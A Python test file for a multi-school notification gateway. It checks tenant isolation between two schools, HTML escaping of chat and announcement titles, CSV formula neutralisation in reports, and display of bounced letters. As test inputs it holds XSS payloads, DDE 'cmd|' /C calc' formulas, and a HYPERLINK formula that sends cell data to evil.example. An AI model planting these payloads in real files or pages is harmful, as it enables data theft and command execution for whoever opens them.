"""The web app with more than one school, and what staff and parents are shown: two schools in one gateway see
nothing of each other (by session, by API token, by guessed ids); titles that come from MAX or from staff are
escaped on every page that shows them; the report's CSV does not run formulas; a refused letter shows as bounced.

Everything over real HTTP: the app on a free port, the MAX/VK emulators, a real SMTP server, SQLite and
PostgreSQL stores (tests/conftest.py's `database`).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import secrets
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from yarl import URL

from adapters.emulators.max import MaxEmulator
from adapters.emulators.smtp import SmtpEmulator
from adapters.emulators.vk import VkEmulator
from gateway.app import Gateway
from gateway.clock import Clock, ManualClock
from gateway.config import load_config
from gateway.domain import Status
from gateway.roster import parse_roster
from gateway.web import auth, links
from gateway.web.app import make_app
from tests.data import ROSTER_CSV, ZVONOK_YAML, write_config
from tests.web import SECRET, WEB_SCHOOL_YAML, WebWorld, free_socket, running_web
from tests.world import MAX_TOKEN, VK_TOKEN, WEBHOOK_SECRET, World

# ---------------------------------------------------------------------- two schools in one gateway

S2_TOKEN = "max-token-s2"
S2_SECRET = "hook-secret-s2"
# The same staff ids and class name as school s1's, on purpose: only the school tells them apart.
S2_YAML = """\
id: s2
name: Гимназия № 2
timezone: Asia/Yekaterinburg
max: {token: S2_TOKEN, webhook_secret: S2_SECRET}
staff:
  - {id: dir, name: Директор Гимназии, role: director}
  - {id: dep, name: Завуч Гимназии, role: deputy}
  - {id: kt5a, name: Классная Гимназии, role: class_teacher}
  - {id: it, name: Админ Гимназии, role: admin}
teachers_chat: {channel: max, chat_id: -2100}
classes:
  - name: 5А
    teacher: kt5a
    chats:
      parents: {channel: max, chat_id: -2501}
""".replace("S2_TOKEN", S2_TOKEN).replace("S2_SECRET", S2_SECRET)
S2_ROSTER = """\
Класс;Ученик;Представитель;E-mail;Телефон;В чате
5А;Гимназистов Ян;Гимназистова Вера;vera@gym.test;+7 900 000-00-09;нет
5А;Лицеев Марк;Лицеева Зоя;zoya@gym.test;;да
"""
# What only school s2's data contains: none of it may reach a response to school s1's staff.
S2_MARKERS = ("Гимнази", "Тайное собрание", "-2501", "-2100", "gym.test", "Лицеев", "max:s2")


@asynccontextmanager
async def two_schools(tmp_path: Path, clock: Clock, database: str) -> AsyncIterator[WebWorld]:
    """tests/web.py's school s1 and a second school s2 in one configuration, one store, one app (no dispatcher
    running: what was posted stays pending, so that there is something to cancel)."""
    school = WEB_SCHOOL_YAML.replace(
        "max: {token: max-token-s1}", f"max: {{token: {MAX_TOKEN}, webhook_secret: {WEBHOOK_SECRET}}}"
    )
    root = write_config(tmp_path / "config", school=school, settings=ZVONOK_YAML)
    (root / "schools" / "s2.yaml").write_text(S2_YAML, encoding="utf-8")
    config = load_config(root)
    assert set(config.schools) == {"s1", "s2"}
    async with SmtpEmulator() as smtp, MaxEmulator() as max_api, VkEmulator() as vk_api:
        max_api.add_bot(MAX_TOKEN, "Бот школы № 1")
        max_api.add_bot(S2_TOKEN, "Бот гимназии")
        for chat_id in (-100, -501, -502):
            max_api.add_chat(chat_id, f"Чат {chat_id}", token=MAX_TOKEN)
        max_api.add_chat(-2100, "Гимназия: учителя", token=S2_TOKEN)
        max_api.add_chat(-2501, "Гимназия 5А родители", token=S2_TOKEN)
        vk_api.add_community(VK_TOKEN, 1)
        vk_api.add_chat(1, "5Б родители", group_id=1)
        sock = free_socket()
        base = f"http://127.0.0.1:{sock.getsockname()[1]}"
        s = config.settings
        config = replace(
            config,
            settings=replace(
                s,
                database=database,
                email=replace(s.email, host=smtp.host, port=smtp.port),
                max=replace(s.max, base_url=max_api.base_url),
                vk=replace(s.vk, base_url=vk_api.base_url),
                public_url=base,
                secret=SECRET,
            ),
        )
        gateway = await Gateway.open(config, clock=clock)
        await gateway.import_roster("s1", parse_roster(ROSTER_CSV.encode(), config.schools["s1"]))
        await gateway.import_roster("s2", parse_roster(S2_ROSTER.encode(), config.schools["s2"]))
        runner = web.AppRunner(make_app(gateway), access_log=None)
        await runner.setup()
        await web.SockSite(runner, sock).start()
        w = WebWorld(World(gateway, smtp, max_api, vk_api), base, runner.app)
        try:
            yield w
        finally:
            for http in w.sessions:
                await http.close()
            await runner.cleanup()
            await gateway.close()


@dataclass
class Caller:
    """One staff member over HTTP: by a browser session (cookie + CSRF token) or by an API token."""

    label: str
    http: aiohttp.ClientSession
    base: str
    headers: dict[str, str]

    async def call(self, method: str, path: str, **kw: Any) -> tuple[int, str]:
        headers = {**self.headers, **kw.pop("headers", {})}
        async with self.http.request(
            method, self.base + path, headers=headers, allow_redirects=False, **kw
        ) as response:
            return response.status, await response.text()

    async def json(self, method: str, path: str, **kw: Any) -> Any:
        status, body = await self.call(method, path, **kw)
        assert status in (200, 201), (self.label, method, path, status, body[:300])
        return json.loads(body)


async def by_session(w: WebWorld, school_id: str, staff_id: str) -> Caller:
    """A session made in the store exactly as a login makes it (tests/web.py's `session`, for any school)."""
    session_id, csrf = secrets.token_urlsafe(32), secrets.token_urlsafe(32)
    now = w.gateway.clock.now()
    await w.gateway.store.create_session(
        auth.digest(session_id), school_id, staff_id, csrf, now, now + auth.SESSION_LIFETIME
    )
    http = w.client()
    http.cookie_jar.update_cookies({auth.SESSION_COOKIE: session_id}, URL(w.base))
    return Caller(f"{school_id}/{staff_id} by session", http, w.base, {auth.CSRF_HEADER: csrf})


async def by_token(w: WebWorld, school_id: str, staff_id: str) -> Caller:
    _, token = await auth.create_token(w.gateway, school_id, staff_id, "интеграция")
    headers = {"Authorization": f"Bearer {token}"}
    return Caller(f"{school_id}/{staff_id} by token", w.client(cookies=False), w.base, headers)


def leaked(body: str) -> list[str]:
    return [m for m in S2_MARKERS if m in body]


LISTS = (
    "/api/me",
    "/api/announcements",
    "/api/tasks",
    "/api/chats",
    "/api/audit",
    "/api/alerts",
    "/api/classes",
    "/api/tokens",
    "/",
    "/announcements",
    "/compose",
    "/tasks",
    "/chats",
    "/audit",
    "/alerts",
    "/settings",
    "/roster",
)
BY_ID = (
    "/api/announcements/{id}",
    "/api/announcements/{id}/progress",
    "/api/announcements/{id}/report",
    "/api/announcements/{id}/report.csv",
    "/announcements/{id}",
)


async def test_one_schools_staff_can_neither_see_nor_touch_another_schools_data(
    tmp_path: Path, clock: ManualClock, database: str
) -> None:
    async with two_schools(tmp_path, clock, database) as w:
        store = w.gateway.store
        # ---- school s2's data, made through the app by its own staff
        b_dep, b_it = await by_session(w, "s2", "dep"), await by_session(w, "s2", "it")
        forwarded = {"title": "Тайное собрание", "text": "Сбор в 18:00.", "groups": ["parents"]}
        b_ids = [(await b_dep.json("POST", "/api/announcements", json={**forwarded, "via_class_teachers": True}))["id"]]
        urgent = {**forwarded, "title": "Гимназия закрыта", "kind": "force_majeure", "reason": "Гимназия: авария"}
        b_ids.append((await b_dep.json("POST", "/api/announcements", json=urgent))["id"])
        w.world.max.set_membership(-2501, S2_TOKEN, member=True, admin=False)
        assert (await b_it.json("POST", "/api/chats/check"))["broken"] == 1
        (b_task,) = await store.tasks(school_id="s2")
        _, b_token = await auth.create_token(w.gateway, "s2", "dep", "журнал гимназии")
        (b_token_row,) = await store.api_tokens("s2")
        # ... and s2's own staff see it all (so the markers below are really in s2's answers)
        listed, audit, chats = [
            (await who.call("GET", path))[1]
            for who, path in ((b_dep, "/api/announcements"), (b_dep, "/api/audit"), (b_it, "/api/chats"))
        ]
        assert "Тайное собрание" in listed and "Гимназия: авария" in audit
        assert "-2501" in chats and "Гимназия 5А родители" in chats
        assert "Гимназистова Вера" in (await b_dep.call("GET", f"/api/announcements/{b_ids[0]}/report.csv"))[1]
        assert len(await store.alerts("s2")) == 1
        b_requests = w.world.max.request_count(S2_TOKEN)

        # ---- school s1: its own announcement and task, and its staff by session and by token
        a_dep = await by_session(w, "s1", "dep")
        a_ids = [
            (
                await a_dep.json(
                    "POST",
                    "/api/announcements",
                    json={**forwarded, "title": "Уроки сокращены", "via_class_teachers": True},
                )
            )["id"]
        ]
        a_tasks = {t.id for t in await store.tasks(school_id="s1")}
        callers = [
            a_dep,
            await by_token(w, "s1", "dep"),
            await by_session(w, "s1", "dir"),
            await by_session(w, "s1", "kt5a"),  # the same staff id as s2's class teacher of s2's 5А
            await by_token(w, "s1", "kt5a"),
            await by_session(w, "s1", "it"),
            await by_token(w, "s1", "it"),
        ]
        top = max(b_ids + a_ids) + 3
        task_ids = range(1, max([b_task.id, *a_tasks]) + 3)
        for who in callers:
            for path in LISTS:
                status, body = await who.call("GET", path)
                assert status in (200, 403) or (path, status) == ("/", 303), (who.label, path, status)
                assert leaked(body) == [], (who.label, path, leaked(body))
            for guess in range(1, top):  # every id there is and a few that are not yet: only s1's are found
                for template in BY_ID:
                    path = template.replace("{id}", str(guess))
                    status, body = await who.call("GET", path)
                    if guess in a_ids and who.label.split()[0] in ("s1/dep", "s1/dir", "s1/kt5a"):
                        assert status == 200, (who.label, path, status)
                    else:
                        assert status in (403, 404), (who.label, path, status)
                    assert leaked(body) == [], (who.label, path, leaked(body))
            # acting on s2's announcements, task and token, by their ids: refused, nothing changes
            for b_id in b_ids:
                for path in (f"/api/announcements/{b_id}/cancel", f"/announcements/{b_id}/cancel"):
                    status, body = await who.call("POST", path)
                    assert status in (403, 404) and leaked(body) == [], (who.label, path, status)
            for guess in task_ids:
                if guess in a_tasks:
                    continue
                for method, path, kw in (
                    ("POST", f"/api/tasks/{guess}/forward", {"json": {"note": "чужое"}}),
                    ("POST", f"/tasks/{guess}/forward", {"data": {"note": "чужое"}}),
                ):
                    status, body = await who.call(method, path, **kw)
                    assert status in (403, 404) and leaked(body) == [], (who.label, path, status)
            for method, path in (
                ("DELETE", f"/api/tokens/{b_token_row.id}"),
                ("POST", f"/settings/tokens/{b_token_row.id}/revoke"),
            ):
                status, body = await who.call(method, path)
                assert status == 404 and leaked(body) == [], (who.label, path, status)
            # s1's own chat check and class window: s1's chats and classes only
            status, body = await who.call("POST", "/api/chats/check")
            assert status in (200, 403) and leaked(body) == [], (who.label, status)
            status, body = await who.call("PUT", "/api/classes/5А/window", json={"start": "09:00", "end": "17:00"})
            assert status in (200, 403) and leaked(body) == [], (who.label, status)

        # ---- nothing of s2's changed
        for b_id in b_ids:
            record = await store.announcement(b_id)
            assert record is not None and record.school_id == "s2" and record.cancelled_at is None
            assert Status.CANCELLED not in {d.status for d in await store.deliveries(b_id)}
        assert [(t.id, t.status) for t in await store.tasks(school_id="s2")] == [(b_task.id, "open")]
        assert await auth.from_token(w.gateway, b_token) is not None
        assert [r.revoked_at for r in await store.api_tokens("s2")] == [None]
        assert await store.class_windows("s2") == []
        assert [r.class_name for r in await store.class_windows("s1")] == ["5А"]
        assert w.world.max.request_count(S2_TOKEN) == b_requests  # s1's checks never touched s2's chats
        assert await store.dead_chats("s2") == {("max", "-2501")} and await store.dead_chats("s1") == set()
        assert len(await store.alerts("s2")) == 1 and await store.audit_log("s2") != []
        # ---- one school's webhook secret does not open the other's webhook
        hook = w.client()
        update = {"update_type": "bot_removed", "chat_id": -2501, "timestamp": 1}
        for school_id, secret in (("s2", WEBHOOK_SECRET), ("s1", S2_SECRET)):
            async with hook.post(
                f"{w.base}/webhooks/max/{school_id}", json=update, headers={"X-Max-Bot-Api-Secret": secret}
            ) as r:
                assert r.status == 401


async def test_one_schools_webhook_cannot_retire_another_schools_chat(tmp_path: Path, clock: ManualClock) -> None:
    async with two_schools(tmp_path, clock, f"sqlite:///{tmp_path / 'z.db'}") as w:
        hook = w.client()
        update = {"update_type": "bot_removed", "chat_id": -501, "timestamp": 1}  # s1's 5А parents' chat
        async with hook.post(
            f"{w.base}/webhooks/max/s2", json=update, headers={"X-Max-Bot-Api-Secret": S2_SECRET}
        ) as r:
            assert r.status in (200, 400, 404)
        assert await w.gateway.store.dead_chats("s1") == set()
        assert [a.message for a in await w.gateway.store.alerts("s2") if "-501" in a.subject] == []


# ---------------------------------------------------------------------- one school: what pages show


@pytest.fixture
async def web_world(tmp_path: Path, clock: ManualClock) -> AsyncIterator[WebWorld]:
    async with running_web(tmp_path, clock) as w:
        yield w


async def wait_complete(caller: Caller, announcement_id: int) -> None:
    for _ in range(200):
        if (await caller.json("GET", f"/api/announcements/{announcement_id}/progress"))["complete"]:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"announcement {announcement_id} not finished")


XSS_TITLE = "<script>alert(1)</script><img src=x onerror=alert(2)> Собрание"
XSS_CHAT = "<img src=x onerror=alert(3)>5А <script>alert(4)</script>"
RAW = ("<script>alert(", "<img src=x")


def assert_escaped(html: str, *shown: str, where: str) -> None:
    for raw in RAW:
        assert raw not in html, (where, raw)
    for text in shown:  # shown, as text
        assert text in html, (where, text)


async def test_titles_from_max_and_from_staff_are_escaped_on_every_page_that_shows_them(
    web_world: WebWorld,
) -> None:
    w = web_world
    dep, it = await by_session(w, "s1", "dep"), await by_session(w, "s1", "it")
    # MAX names the students' chat of 5А with markup, and the bot is no longer its admin
    w.world.max.add_chat(-502, XSS_CHAT, token=MAX_TOKEN, admin=False)
    chat_shown = "&lt;img src=x onerror=alert(3)&gt;5А &lt;script&gt;alert(4)&lt;/script&gt;"
    status, html = await it.call("POST", "/chats/check")  # the check reads the title from MAX
    assert status == 200
    assert_escaped(html, chat_shown, where="/chats/check")
    (row,) = [r for r in await w.gateway.store.chats("s1") if r.address == "-502"]
    assert row.title == XSS_CHAT and row.status == "dead"  # kept as MAX sent it, shown as text
    (alert,) = await w.gateway.store.alerts("s1")
    assert XSS_CHAT in alert.message
    for who, path in ((it, "/chats"), (it, "/alerts"), (dep, "/alerts")):
        status, html = await who.call("GET", path)
        assert status == 200
        assert_escaped(html, chat_shown, where=path)

    # a force majeure titled with markup: the audit log names it; the parents' page shows it
    body = {"title": XSS_TITLE, "text": "Школа закрыта.", "groups": ["parents"], "classes": ["5А"]}
    posted = await dep.json("POST", "/api/announcements", json={**body, "kind": "force_majeure"})
    title_shown = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; Собрание"
    assert any(XSS_TITLE in e.details for e in await w.gateway.store.audit_log("s1"))
    status, html = await dep.call("GET", "/audit")
    assert status == 200
    assert_escaped(html, title_shown, where="/audit")
    letter = next(d for d in await w.gateway.store.deliveries(posted["id"]) if d.target == "anna@mail.test")
    token = links.sign(SECRET, links.ACK, letter.id, w.gateway.clock.now() + timedelta(days=1))
    parent = w.client()
    for method in ("GET", "POST"):
        async with parent.request(method, f"{w.base}/p/ack/{token}") as r:
            html = await r.text()
        assert r.status == 200
        assert_escaped(html, f"«{title_shown}»", where=f"{method} /p/ack")


FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Открыть")',
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
)


def roster_with(names: Iterable[tuple[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\n")
    writer.writerow(["Класс", "Ученик", "Представитель", "E-mail", "Телефон", "В чате"])
    for n, (student, guardian) in enumerate(names, start=1):
        writer.writerow(["5А", student, guardian, f"p{n}@mail.test", f"+7 900 000-00-{n:02d}", "нет"])
    return out.getvalue().encode()


async def report_cells(caller: Caller, announcement_id: int) -> list[list[str]]:
    status, text = await caller.call("GET", f"/api/announcements/{announcement_id}/report.csv")
    assert status == 200
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


async def test_names_that_look_like_formulas_are_neutralised_in_the_report_csv(web_world: WebWorld) -> None:
    w = web_world
    dep, it = await by_session(w, "s1", "dep"), await by_session(w, "s1", "it")
    rows = [(f"Ученик {n}", name) for n, name in enumerate(FORMULAS)] + [("=Петров Коля", "Петрова Анна")]
    roster = roster_with(rows)
    await it.json("POST", "/api/roster", data=roster, headers={"Content-Type": "text/csv"})
    posted = await dep.json("POST", "/api/announcements", json={"title": "Т", "text": "Т.", "groups": ["parents"]})
    cells = await report_cells(dep, posted["id"])
    header, body = cells[0], cells[1:]
    by_guardian = {r[header.index("Представитель")]: r for r in body}
    for name in FORMULAS:
        assert "'" + name in by_guardian, (name, sorted(by_guardian))
    assert by_guardian["Петрова Анна"][header.index("Ученик")] == "'=Петров Коля"
    for r in body:  # no cell of the file starts a formula, but a phone number in its one format
        for value in r:
            assert value[:1] not in "=+-@" or re.fullmatch(r"\+7\d{10}", value), (value, r)
    # the JSON report and the page show the names as they are
    report = await dep.json("GET", f"/api/announcements/{posted['id']}/report")
    assert set(FORMULAS) <= {p["name"] for c in report["classes"] for p in c["people"]}


async def test_formulas_starting_with_a_digit_are_neutralised_too(web_world: WebWorld) -> None:
    w = web_world
    dep, it = await by_session(w, "s1", "dep"), await by_session(w, "s1", "it")
    names = ("=1+2", "-2+3+cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0")
    await it.json(
        "POST",
        "/api/roster",
        data=roster_with((f"Ученик {n}", m) for n, m in enumerate(names)),
        headers={"Content-Type": "text/csv"},
    )
    posted = await dep.json("POST", "/api/announcements", json={"title": "Т", "text": "Т.", "groups": ["parents"]})
    cells = await report_cells(dep, posted["id"])
    guardians = {r[cells[0].index("Представитель")] for r in cells[1:]}
    assert {"'" + n for n in names} <= guardians, sorted(guardians)


def summary_row(html: str, class_name: str) -> dict[str, str]:
    """The report page's summary table: the class's row, column header → cell."""
    table = re.search(r'<table class="summary">\s*<thead>(.*?)</thead>(.*?)</table>', html, re.S)
    assert table is not None, html[:500]
    head = re.findall(r"<th>(.*?)</th>", table.group(1))
    for row in re.findall(r'<tr><th scope="row">(.*?)</tr>', table.group(2), re.S):
        name = re.search(r">([^<]+)</a></th>", row)
        if name is not None and name.group(1) == class_name:
            return dict(zip(head[1:], re.findall(r"<td>(.*?)</td>", row), strict=True))
    raise AssertionError(f"no row for {class_name}")


async def test_a_letter_refused_with_5xx_shows_as_bounced_for_its_class(web_world: WebWorld) -> None:
    w = web_world
    dep = await by_session(w, "s1", "dep")
    w.world.smtp.reject_recipient("anna@mail.test", code=550)
    posted = await dep.json("POST", "/api/announcements", json={"title": "Т", "text": "Т.", "groups": ["parents"]})
    await wait_complete(dep, posted["id"])
    report = await dep.json("GET", f"/api/announcements/{posted['id']}/report")
    counts = {c["name"]: c["counts"] for c in report["classes"]}
    assert {name: c["bounced"] for name, c in counts.items()} == {"5А": 1, "5Б": 0, "7Б": 0}
    assert report["counts"]["bounced"] == 1
    five_a = next(c for c in report["classes"] if c["name"] == "5А")
    anna = next(p for p in five_a["people"] if p["name"] == "Петрова Анна")
    assert anna["bucket"] == "bounced" and anna["bucket_label"] == "письмо не доставлено"
    assert "550" in anna["reason"] or "Mailbox unavailable" in anna["reason"], anna["reason"]
    assert {p["name"]: p["bucket"] for p in five_a["to_call"]} == {
        "Петрова Анна": "bounced",
        "Сидоров Олег": "unreachable",
    }
    assert w.world.smtp.mailbox("anna@mail.test") == []
    status, html = await dep.call("GET", f"/announcements/{posted['id']}")
    assert status == 200
    assert summary_row(html, "5А") == {
        "в чате": "1",
        "письмом": "0",
        "в пути": "0",
        "не доставлено": "1",
        "без связи": "1",
        "ознакомились": "0",
        "отписались": "0",
    }
    assert summary_row(html, "7Б")["не доставлено"] == "0" and summary_row(html, "7Б")["письмом"] == "1"
